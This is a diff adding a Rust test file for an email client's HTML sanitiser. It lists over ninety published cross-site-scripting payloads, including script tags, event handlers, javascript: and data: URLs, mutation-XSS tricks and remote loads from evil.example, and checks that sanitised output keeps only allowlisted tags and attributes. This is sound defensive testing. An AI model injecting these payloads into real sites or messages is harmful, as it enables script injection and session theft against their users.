@@ -1,0 +1,298 @@
+//! HTML from strangers, in published ways of getting script past a filter.
+
+use letter::html::{safe, to_text};
+
+/// Payloads from the published cheat sheets and from the filters that failed before ours.
+const PAYLOADS: &[&str] = &[
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<script/xss src=//evil.example></script>",
+    "<script\n>alert(1)</script\n>",
+    "<<SCRIPT>alert(1);//<</SCRIPT>",
+    "<script>alert(1)",
+    "<img src=x onerror=alert(1)>",
+    "<IMG SRC=\"javascript:alert(1)\">",
+    "<img src=`javascript:alert(1)`>",
+    "<img/src='x'/onerror='alert(1)'>",
+    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
+    "<img \"\"\"><script>alert(1)</script>\">",
+    "<img srcset=\"//evil.example/a.png 1x\" alt=x>",
+    "<picture><source srcset=//evil.example/a.png><img src=//evil.example/b.png alt=x></picture>",
+    "<svg onload=alert(1)>",
+    "<svg/onload=alert(1)//",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><style><img src=x onerror=alert(1)></style></svg>",
+    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
+    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(1)>#x\"/></svg>",
+    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
+    "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
+    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
+    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
+    "<template><img src=x onerror=alert(1)></template>",
+    "<textarea><script>alert(1)</script></textarea><img src=x onerror=alert(1)>",
+    "<title></title><img src=x onerror=alert(1)>",
+    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
+    "<noembed><img src=x onerror=alert(1)></noembed>",
+    "<plaintext><img src=x onerror=alert(1)>",
+    "<iframe src=javascript:alert(1)></iframe>",
+    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
+    "<object data=javascript:alert(1)></object>",
+    "<embed src=//evil.example/x.swf>",
+    "<applet code=x></applet>",
+    "<a href=javascript:alert(1)>x</a>",
+    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
+    "<a href=\"java\tscript:alert(1)\">x</a>",
+    "<a href=\"java&#x0A;script:alert(1)\">x</a>",
+    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
+    "<a href=\" &#14;  javascript:alert(1)\">x</a>",
+    "<a href=\"javascript&colon;alert(1)\">x</a>",
+    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
+    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
+    "<a href=vbscript:msgbox(1)>x</a>",
+    "<a href=\"blob:https://evil.example/1\">x</a>",
+    "<a href=\"file:///etc/passwd\">x</a>",
+    "<a href=\"//evil.example\" onclick=alert(1)>x</a>",
+    "<a href=\"https://ok.example\" target=_top onmouseover=alert(1) style=\"position:fixed\">x</a>",
+    "<a href='https://ok.example/\"onmouseover=alert(1) x=\"'>x</a>",
+    "<body onload=alert(1) background=//evil.example/a.png>",
+    "<div style=\"background:url(javascript:alert(1))\">x</div>",
+    "<div style=\"position:fixed;top:0;z-index:99999\">x</div>",
+    "<div style=\"width:expression(alert(1))\">x</div>",
+    "<style>@import '//evil.example/x.css';</style>",
+    "<style>li{list-style-image:url(javascript:alert(1))}</style><ul><li>x",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<link rel=icon href=//evil.example/x.ico>",
+    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
+    "<base href=\"javascript:alert(1)//\">",
+    "<form action=javascript:alert(1)><input type=submit></form>",
+    "<form><button formaction=javascript:alert(1)>x</button></form>",
+    "<input type=image src=//evil.example/a.png onfocus=alert(1) autofocus>",
+    "<isindex action=javascript:alert(1) type=image>",
+    "<video poster=//evil.example/a.png src=//evil.example/a.mp4 onerror=alert(1)></video>",
+    "<audio src=x onerror=alert(1)>",
+    "<details open ontoggle=alert(1)>x</details>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    "<table background=javascript:alert(1)><td background=//evil.example/a.png>x</td></table>",
+    "<bgsound src=javascript:alert(1)>",
+    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
+    "<layer src=//evil.example></layer>",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<!-- --!><img src=x onerror=alert(1)> -->",
+    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
+    "<![CDATA[<img src=x onerror=alert(1)>]]>",
+    "<?xml version=\"1.0\"?><x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
+    "<img src=\"cid:a\" onerror=alert(1)>",
+    "<img src='cid:a\"onerror=alert(1) x=\"' alt='\"><script>alert(1)</script>'>",
+    "<img src=\"cid:a&quot; onerror=&quot;alert(1)\">",
+    "<p title=\"--><script>alert(1)</script>\">x</p>",
+    "<a title=\"</a><img src=x onerror=alert(1)>\" href=\"https://ok.example\">x</a>",
+    "<img alt=\"&lt;script&gt;alert(1)&lt;/script&gt;\" src=//evil.example>",
+    "\u{0}<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
+    "<img src=x on\u{0}error=alert(1)>",
+    "<a id=x tabindex=1 onfocus=alert(1)>x</a>",
+    "<p id=location name=cookie class=admin data-action=delete>x</p>",
+    "<portal src=//evil.example></portal>",
+    "<dialog open onclose=alert(1)>x</dialog>",
+];
+
+/// The start tags of a fragment: what is between `<` and `>`. In what a sanitiser serialised every
+/// other `<` is escaped.
+fn tags(html: &str) -> Vec<&str> {
+    html.split('<')
+        .skip(1)
+        .map(|tag| tag.split('>').next().unwrap_or(tag))
+        .collect()
+}
+
+/// Whether every tag is one of the few, with nothing but the few attributes.
+fn is_harmless(html: &str) -> bool {
+    tags(html).iter().all(|tag| {
+        let tag = tag.trim_start_matches('/');
+        let name = tag.split(' ').next().unwrap_or_default();
+        let known = [
+            "a",
+            "abbr",
+            "b",
+            "blockquote",
+            "br",
+            "caption",
+            "cite",
+            "code",
+            "dd",
+            "del",
+            "div",
+            "dl",
+            "dt",
+            "em",
+            "figcaption",
+            "figure",
+            "h1",
+            "h2",
+            "h3",
+            "h4",
+            "h5",
+            "h6",
+            "hr",
+            "i",
+            "img",
+            "ins",
+            "kbd",
+            "li",
+            "mark",
+            "ol",
+            "p",
+            "pre",
+            "q",
+            "s",
+            "samp",
+            "small",
+            "span",
+            "strong",
+            "sub",
+            "sup",
+            "table",
+            "tbody",
+            "td",
+            "tfoot",
+            "th",
+            "thead",
+            "tr",
+            "u",
+            "ul",
+        ];
+        // Values are quoted, so names and values take turns between the quotes.
+        let pieces: Vec<&str> = tag[name.len()..].split('"').collect();
+        let attributes_known = pieces.chunks(2).all(|pair| {
+            let attribute = pair[0].trim().trim_end_matches('=');
+            let value = pair.get(1).copied().unwrap_or_default();
+            match attribute {
+                "" | "/" => pair.len() == 1,
+                "href" => ["http://", "https://", "mailto:"]
+                    .iter()
+                    .any(|s| value.to_ascii_lowercase().starts_with(s)),
+                other => [
+                    "title", "rel", "alt", "data-cid", "colspan", "rowspan", "start", "dir", "lang",
+                ]
+                .contains(&other),
+            }
+        });
+        known.contains(&name) && attributes_known
+    })
+}
+
+#[test]
+fn the_check_itself_sees_what_is_harmful() {
+    for harmful in [
+        "<script>",
+        "<img src=\"//evil\">",
+        "<p onclick=\"x\">",
+        "<a href=\"javascript:x\">",
+        "<p style=\"x\">",
+    ] {
+        assert!(!is_harmless(harmful), "{harmful}");
+    }
+    assert!(is_harmless(
+        "<p>x</p><a href=\"https://a.example\" rel=\"nofollow\">y</a>"
+    ));
+}
+
+#[test]
+fn no_known_payload_leaves_script_handlers_or_remote_content() {
+    assert!(PAYLOADS.len() >= 60);
+    for payload in PAYLOADS {
+        let once = safe(payload);
+        assert!(is_harmless(&once), "{payload}\n{once}");
+        assert_eq!(
+            safe(&once),
+            once,
+            "what is safe is left as it is: {payload}"
+        );
+    }
+}
+
+#[test]
+fn payloads_inside_each_other_leave_nothing_either() {
+    for outer in PAYLOADS {
+        for inner in PAYLOADS.iter().step_by(7) {
+            let middle = outer
+                .char_indices()
+                .nth(outer.chars().count() / 2)
+                .map_or(0, |(at, _)| at);
+            let mixed = format!("{}{inner}{}", &outer[..middle], &outer[middle..]);
+            let once = safe(&mixed);
+            assert!(is_harmless(&once), "{mixed}\n{once}");
+        }
+    }
+}
+
+#[test]
+fn links_carry_their_warning_and_images_lose_their_source() {
+    assert_eq!(
+        safe("<a href=\"https://a.example/?x=1&y=2\">a</a>"),
+        "<a href=\"https://a.example/?x=1&amp;y=2\" rel=\"noopener noreferrer nofollow\">a</a>"
+    );
+    assert_eq!(
+        safe("<img src=\"https://a.example/p.png\" alt=\"Plan\">"),
+        "<img alt=\"Plan\">"
+    );
+    assert_eq!(safe("<img src=\"https://a.example/p.png\">"), "");
+    assert_eq!(
+        safe("<img src=\"CID:x@y\">"),
+        "<img data-cid=\"x@y\" alt=\"\">"
+    );
+}
+
+#[test]
+fn tangled_markup_comes_out_balanced_with_its_words() {
+    assert_eq!(safe("<b><p>one</b> two"), "<b><p>one</p></b> two");
+    assert_eq!(
+        safe("<ul><li>one<li>two</ul>three"),
+        "<ul><li>one</li><li>two</li></ul>three"
+    );
+    assert_eq!(
+        safe("<p>one<p>two<div>three"),
+        "<p>one</p><p>two</p><div>three</div>"
+    );
+    assert_eq!(safe("1 < 2 && 3 > 2"), "1 &lt; 2 &amp;&amp; 3 &gt; 2");
+    assert_eq!(
+        safe("<table><tr><td>a<td>b<tr><td>c</table>"),
+        "<table><tbody><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></tbody></table>"
+    );
+}
+
+#[test]
+fn text_of_html_reads_like_a_typed_mail() {
+    assert_eq!(
+        to_text("<p>Hello,</p><p>second&nbsp;line<br>third &lt;tag&gt;</p>"),
+        "Hello,\n\nsecond\u{a0}line\nthird <tag>"
+    );
+    assert_eq!(
+        to_text("a<blockquote>b<blockquote>c</blockquote></blockquote>d"),
+        "a\n\n> b\n>\n>> c\n\nd"
+    );
+    assert_eq!(
+        to_text("see <a href=\"https://a.example/x\">the page</a>"),
+        "see the page <https://a.example/x>"
+    );
+    assert_eq!(
+        to_text("<a href=\"https://a.example/\">https://a.example</a>"),
+        "https://a.example"
+    );
+    assert_eq!(
+        to_text("<a href=\"mailto:a@b.example\">a@b.example</a>"),
+        "a@b.example"
+    );
+    assert_eq!(to_text("<pre>a\n  b\n\nc</pre>"), "a\n  b\n\nc");
+    assert_eq!(
+        to_text("<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>"),
+        "a  b\nc"
+    );
+    assert_eq!(
+        to_text("1 &#60; 2 &#x26; &euro; &unknown; AT&T &copy=1"),
+        "1 < 2 & \u{20ac} &unknown; AT&T &copy=1"
+    );
+    assert_eq!(to_text("<div>a</div><div><br></div><div>b</div>"), "a\n\nb");
+}
